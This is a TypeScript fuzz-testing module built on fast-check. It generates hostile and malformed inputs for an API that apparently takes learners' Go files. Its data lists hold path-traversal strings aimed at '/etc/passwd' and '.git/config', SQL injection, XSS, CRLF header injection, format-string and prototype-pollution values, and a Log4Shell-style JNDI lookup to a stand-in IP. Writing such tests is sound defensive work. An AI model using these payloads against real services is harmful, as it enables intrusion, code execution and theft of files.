import fc from 'fast-check';
import type { ApiDocument, JsonSchema } from './document.ts';

/** Paths that some system would take for another file, or none. */
const PATHS = [
  '../main.go',
  '../../../../etc/passwd',
  '/etc/passwd',
  'C:\\main.go',
  'a\\b.go',
  'main.go\0.txt',
  'MAIN.GO',
  'main.go/',
  'main.go/x.go',
  './main.go',
  '.git/config',
  'a//b.go',
  'CON.go',
  'nul',
  'go.mod',
  'vendor/x/x.go',
  'ｍain.go',
  'caf\u00e9.go',
  'cafe\u0301.go',
  '\u202egnp.go',
  '\ud800.go',
  'constructor',
  '__proto__',
  'toString.go',
  `${'a/'.repeat(99)}b.go`,
  `${'x'.repeat(5000)}.go`,
];

const STRINGS = [
  '',
  ' ',
  '\0',
  '\ud83d',
  '\u202e\u200f',
  '\ufeff',
  '﷽'.repeat(50),
  'Z\u0351\u036b'.repeat(200),
  "'; drop table people; --",
  '$' + '{jndi:ldap://192.0.2.1/x}',
  '%s%n%x',
  '<script>alert(1)</script>',
  'x'.repeat(100_000),
  '\r\nX-Injected: 1',
  '-1',
  '9007199254740993',
  'NaN',
  '2026-02-30T25:61:00Z',
];

const NUMBERS = [0, -0, -1, 1.5, 1e308, -1e308, 2 ** 31, 2 ** 53 + 2, 5e-324];

const TOWER = Array.from({ length: 200 }).reduce<unknown>((inner) => [inner], 'deep');

export const hostileString = fc.oneof(
  fc.constantFrom(...STRINGS, ...PATHS),
  fc.string({ unit: 'binary', maxLength: 60 }),
);

export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  fc.constantFrom<unknown>(...NUMBERS, null, true, [], {}, [[]], TOWER),
  fc.constantFrom('constructor', 'prototype', 'toString', 'length').map((key) => ({ [key]: {} })),
  fc.jsonValue(),
);

const files = fc.dictionary(
  fc.oneof(fc.constant('main.go'), fc.constantFrom(...PATHS), fc.stringMatching(/^[a-z]{1,8}\.go$/)),
  fc.oneof(fc.constant('package main\n'), fc.string({ unit: 'grapheme', maxLength: 200 }), hostileString),
  { maxKeys: 60 },
);
/** What a learner sends. */
const honestFiles = fc.string({ maxLength: 80 }).map((text) => ({ 'main.go': `package main // ${text}` }));

/** Values that fit a schema of the document. Some names mean more than their schema says: `known` has values for them. */
export function createValues(document: ApiDocument, known: Record<string, fc.Arbitrary<unknown>>) {
  const special: Record<string, fc.Arbitrary<unknown>> = {
    files: fc.oneof({ weight: 3, arbitrary: honestFiles }, { weight: 2, arbitrary: files }),
    // Nobody waits for long here.
    waitMs: fc.integer({ min: 0, max: 30 }),
    ...known,
  };

  function fitting(given: JsonSchema): fc.Arbitrary<unknown> {
    const schema = document.resolve(given);
    if (schema.const !== undefined) return fc.constant(schema.const);
    if (schema.enum) return fc.constantFrom(...schema.enum);
    const variants = schema.anyOf ?? schema.oneOf;
    if (variants) return fc.oneof(...variants.map(fitting));
    if (schema.allOf)
      return fc.tuple(...schema.allOf.map(fitting)).map((parts) => Object.assign({}, ...parts) as unknown);
    switch (schema.type) {
      case 'array':
        return fc.array(fitting(schema.items ?? {}), {
          minLength: schema.minItems ?? 0,
          maxLength: Math.min(schema.maxItems ?? 5, 5),
        });
      case 'object':
        return objectOf(schema);
      case 'string':
        return stringOf(schema);
      case 'integer':
        return fc.integer({ min: schema.minimum ?? -1000, max: Math.min(schema.maximum ?? 1000, 2 ** 31) });
      case 'number':
        return fc.double({ min: schema.minimum ?? -1e6, max: schema.maximum ?? 1e6, noNaN: true });
      case 'boolean':
        return fc.boolean();
      case 'null':
        return fc.constant(null);
      default:
        return fc.jsonValue();
    }
  }

  function objectOf(schema: JsonSchema): fc.Arbitrary<unknown> {
    const { properties = {}, required = [], additionalProperties } = schema;
    const named = Object.entries(properties).map(([name, part]) => [name, special[name] ?? fitting(part)]);
    if (named.length > 0) {
      return fc.record(Object.fromEntries(named) as Record<string, fc.Arbitrary<unknown>>, {
        requiredKeys: required,
        noNullPrototype: true,
      });
    }
    const values = typeof additionalProperties === 'object' ? fitting(additionalProperties) : fc.jsonValue();
    return fc.dictionary(fc.string({ maxLength: 20 }), values, { maxKeys: 5, noNullPrototype: true });
  }

  return { fitting, special };
}

function stringOf({ format, pattern, minLength = 0, maxLength = 200 }: JsonSchema): fc.Arbitrary<string> {
  if (format === 'uuid') return fc.uuid({ version: 4 });
  if (format === 'date-time')
    return fc
      .date({ noInvalidDate: true, min: new Date(0), max: new Date(4e12) })
      .map((date) => date.toISOString());
  if (format === 'base64') return fc.base64String({ maxLength: 200 });
  if (pattern !== undefined) return fc.stringMatching(new RegExp(pattern));
  return fc.string({ unit: 'grapheme', minLength, maxLength: Math.min(maxLength, 200) });
}

export interface Mutation {
  kind: 'replace' | 'remove' | 'add';
  at: number;
  value: unknown;
}

export const mutations = fc.array(
  fc.record<Mutation>({
    kind: fc.constantFrom('replace', 'remove', 'add'),
    at: fc.nat({ max: 1000 }),
    value: hostileValue,
  }),
  { minLength: 1, maxLength: 3 },
);

/** A value of which some parts are replaced, removed or too many. */
export function mutate(value: unknown, changes: Mutation[]): unknown {
  const root = { value: structuredClone(value) };
  for (const { kind, at, value: other } of changes) {
    const places = placesIn(root);
    const place = places[at % places.length];
    if (!place) continue;
    const { holder, key } = place;
    if (kind === 'replace') holder[key] = other;
    else if (kind === 'remove' && holder !== root) Reflect.deleteProperty(holder, key);
    else if (kind === 'add' && holder !== root) holder[`extra-${at}`] = other;
  }
  return root.value;
}

type Holder = Record<string, unknown>;

function placesIn(root: object): { holder: Holder; key: string }[] {
  const places: { holder: Holder; key: string }[] = [];
  const left: object[] = [root];
  for (let holder = left.pop(); holder && places.length < 1000; holder = left.pop()) {
    for (const [key, inner] of Object.entries(holder)) {
      places.push({ holder: holder as Holder, key });
      if (typeof inner === 'object' && inner !== null) left.push(inner as object);
    }
  }
  return places;
}
